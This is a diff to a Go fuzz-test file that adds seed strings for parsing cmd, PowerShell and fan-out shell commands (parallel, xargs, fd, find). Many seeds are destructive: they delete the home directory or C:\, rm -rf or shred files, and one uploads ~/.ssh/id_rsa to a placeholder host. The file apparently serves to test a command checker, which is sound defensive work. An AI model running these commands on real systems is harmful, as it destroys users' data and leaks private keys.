@@ -13,6 +13,10 @@ var winSeeds = []string{
 	`powershell -c "[IO.Directory]::Delete($HOME, $true); (New-Object Net.WebClient).UploadFile('https://x', (Resolve-Path ~/.ssh/id_rsa))"`,
 	`powershell -c '@{a=1}; $(gci); [x]::y((((z; <# c #> "a""b` + "`" + `"c" | % { $_ }'`,
 	`cmd /c start "" powershell -c "Start-Process cmd -ArgumentList '/c rd /s /q C:\'"`, `echo 'rd /s /q C:\' | cmd`,
+	// fan-out (fanout.go)
+	`cat u | parallel curl -sO`, `parallel rm -rf {} {1} {.} {/} {//} ::: ~/a b ::: c :::: f`, `parallel echo ::: a ::: `,
+	`fd -t f -e x . ~ -x rm {} \; -X chmod 000`, `git -C d ls-files -z x | xargs -0 -I% rm -rf %`, `printf '%s\n' ~/* | xargs rm`,
+	`find ~ -exec chown nobody {} + | xargs ls`, `ls -R | xargs -n1 shred`,
 }
 
 // FuzzWinShell checks that the cmd and PowerShell readers never panic or
